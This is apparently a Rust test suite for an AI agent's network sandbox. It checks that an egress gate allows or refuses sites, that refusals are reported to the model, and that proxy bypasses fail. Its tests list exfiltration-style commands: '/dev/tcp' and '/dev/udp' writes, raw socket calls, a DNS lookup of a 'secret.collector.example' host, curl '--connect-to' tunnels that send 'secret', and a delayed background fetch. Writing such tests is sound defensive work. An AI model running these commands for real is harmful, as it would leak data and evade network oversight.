//! The network of commands inside: real programs, the one way out, and a gate that does as it was told.

use super::{
    harness::{Room, in_time},
    sandbox::room_with_network,
    trial,
};
use async_trait::async_trait;
use libtest_mimic::Trial;
use std::{
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpListener, UdpSocket},
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
    time::Duration,
};
use tools::{Destination, EgressGate, Verdict};

pub(crate) fn trials() -> Vec<Trial> {
    vec![
        trial("allowed_site_is_reached_through_the_proxy", allowed),
        trial("refused_site_gets_nothing_and_the_model_is_told", refused),
        trial("there_is_no_way_past_the_proxy", past_the_proxy),
        trial("an_allowed_site_leads_to_no_other", other_site),
        trial("programs_left_running_reach_nothing_new", left_running),
        trial("own_servers_are_reached_without_asking", own_server),
        trial("git_clones_from_an_allowed_site", clones),
    ]
}

/// Allows or refuses everything, and writes down what it was asked.
struct RecordingGate {
    allows: bool,
    asked: Mutex<Vec<Destination>>,
}

#[async_trait]
impl EgressGate for RecordingGate {
    async fn decide(&self, destination: &Destination) -> Verdict {
        self.asked.lock().unwrap().push(destination.clone());
        match self.allows {
            true => Verdict::Allowed { limit_bytes: None },
            false => Verdict::Refused("The user did not allow this site.".into()),
        }
    }
}

/// A site on the loopback address outside, which counts its visitors.
struct Site {
    address: SocketAddr,
    visits: Arc<AtomicUsize>,
    /// The first bytes of each visitor.
    received: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl Site {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let visits = Arc::new(AtomicUsize::new(0));
        let counted = Arc::clone(&visits);
        let received = Arc::new(Mutex::new(Vec::new()));
        let kept = Arc::clone(&received);
        thread::spawn(move || {
            for mut visitor in listener.incoming().flatten() {
                counted.fetch_add(1, Ordering::Relaxed);
                let mut request = [0; 4096];
                let count = visitor.read(&mut request).unwrap_or_default();
                kept.lock().unwrap().push(request[..count].to_vec());
                let _ = visitor.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello",
                );
            }
        });
        Self {
            address,
            visits,
            received,
        }
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::Relaxed)
    }

    /// A command that fetches its page through the proxy.
    fn fetch(&self) -> String {
        format!("curl -sS --noproxy '' http://{}/", self.address)
    }
}

fn room(allows: bool) -> Option<(Room, Arc<RecordingGate>)> {
    let mut room = room_with_network()?;
    let gate = Arc::new(RecordingGate {
        allows,
        asked: Mutex::default(),
    });
    room.network = Arc::clone(&gate) as _;
    Some((room, gate))
}

async fn allowed() {
    let Some((room, gate)) = room(true) else {
        return;
    };
    let site = Site::start();
    room.check(&site.fetch(), "hello").await;
    // A tunnel, for a protocol that names no site.
    let tunnel = format!(
        "echo hi | curl -sS -m 5 -p --noproxy '' telnet://{} | tail -n 1",
        site.address
    );
    room.check(&tunnel, "hello").await;
    assert_eq!(site.visits(), 2);
    let asked = gate.asked.lock().unwrap().clone();
    let asked: Vec<_> = asked
        .iter()
        .map(|site| (site.host.as_str(), site.port, site.program.as_deref()))
        .collect();
    let wanted = ("127.0.0.1", site.address.port(), Some("curl"));
    assert_eq!(asked, [wanted, wanted]);
    room.end().await;
}

async fn refused() {
    let Some((room, _)) = room(false) else {
        return;
    };
    let site = Site::start();
    let text = room.text(&format!("{} -d secret", site.fetch())).await;
    let told = format!(
        "[The connection of curl to 127.0.0.1:{} was refused: The user did not allow this site.]",
        site.address.port()
    );
    assert!(text.ends_with(&told), "{text}");
    assert_eq!(site.visits(), 0);
    room.end().await;
}

async fn past_the_proxy() {
    let Some((room, gate)) = room(true) else {
        return;
    };
    let site = Site::start();
    let port = site.address.port();
    let datagrams = UdpSocket::bind("127.0.0.1:0").unwrap();
    datagrams
        .set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let datagram_port = datagrams.local_addr().unwrap().port();
    for command in [
        format!("curl -sS -m 2 --noproxy '*' http://127.0.0.1:{port}/"),
        format!("exec 3<>/dev/tcp/127.0.0.1/{port}; echo secret >&3"),
        format!("echo secret > /dev/udp/127.0.0.1/{datagram_port}"),
        format!(
            "python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}), 2).send(b\"x\")'"
        ),
        "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/run/qilbee-proxy.sock\")'"
            .to_owned(),
        "python3 -c 'import socket; print(socket.gethostbyname(\"secret.collector.example\"))'"
            .to_owned(),
    ] {
        let text = room.text(&command).await;
        // Nobody is told that a datagram was lost.
        let failed = text.contains("exit code") || command.contains("/dev/udp");
        assert!(failed, "{command}: {text}");
    }
    assert_eq!(site.visits(), 0);
    assert!(datagrams.recv(&mut [0; 16]).is_err());
    assert_eq!(*gate.asked.lock().unwrap(), []);
    room.end().await;
}

/// Many sites share one computer: the tunnel to one must not lead to another.
async fn other_site() {
    let Some((room, gate)) = room(true) else {
        return;
    };
    let site = Site::start();
    let to = format!("--connect-to collector.example::{}", site.address);
    for attack in [
        format!("curl -sS -m 5 -k --noproxy '' {to} https://collector.example/?d=secret"),
        format!("curl -sS -m 5 -p --noproxy '' {to} http://collector.example/?d=secret"),
    ] {
        let text = room.text(&attack).await;
        assert!(text.contains("exit code"), "{attack}: {text}");
        assert!(text.contains(" was refused: "), "{attack}: {text}");
    }
    let received = site.received.lock().unwrap().clone();
    assert_eq!(received, [b"", b""]);
    let asked = gate.asked.lock().unwrap().clone();
    assert!(
        asked.iter().all(|asked| asked.host == "127.0.0.1"),
        "{asked:?}"
    );
    room.end().await;
}

async fn left_running() {
    let Some((room, gate)) = room(true) else {
        return;
    };
    let site = Site::start();
    // It waits for a file, which only the next call makes.
    let later = format!(
        "(until [ -e go ]; do sleep 0.05; done; {}; touch done) > /dev/null 2>&1 &",
        site.fetch()
    );
    room.check_left_running(&later).await;
    std::fs::write(room.path("go"), "").unwrap();
    in_time(async {
        while !room.path("done").exists() {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    })
    .await;
    assert_eq!(site.visits(), 0);
    assert_eq!(*gate.asked.lock().unwrap(), []);
    room.end().await;
}

async fn own_server() {
    let Some((room, gate)) = room(false) else {
        return;
    };
    let command = "echo hello > index.html; python3 -m http.server 8123 --bind 127.0.0.1 > /dev/null 2>&1 & \
        for i in $(seq 100); do curl -sf http://localhost:8123/ && break; sleep 0.05; done; kill %1; wait 2>/dev/null; true";
    let text = room.text(command).await;
    assert!(text.starts_with("hello"), "{text}");
    assert_eq!(*gate.asked.lock().unwrap(), []);
    room.end().await;
}

async fn clones() {
    let Some((room, gate)) = room(true) else {
        return;
    };
    // A repository that any web server can give out.
    let made = "git init -q -b main source && cd source && git -c user.name=a -c user.email=a@b.c commit -q --allow-empty -m first \
        && cd .. && git clone -q --bare source shop.git && git -C shop.git update-server-info";
    room.check(made, "(no output)").await;
    let mut server = std::process::Command::new("python3")
        .args(["-u", "-m", "http.server", "0", "--bind", "127.0.0.1"])
        .current_dir(room.path(""))
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut line = String::new();
    let output = server.stdout.take().unwrap();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(output), &mut line).unwrap();
    let port = line
        .split_whitespace()
        .skip_while(|word| *word != "port")
        .nth(1)
        .unwrap()
        .to_owned();
    let clone = format!(
        "no_proxy= NO_PROXY= git clone -q http://127.0.0.1:{port}/shop.git copy && git -C copy log --format=%s"
    );
    room.check(&clone, "first\n").await;
    assert!(!gate.asked.lock().unwrap().is_empty());
    server.kill().unwrap();
    server.wait().unwrap();
    room.end().await;
}
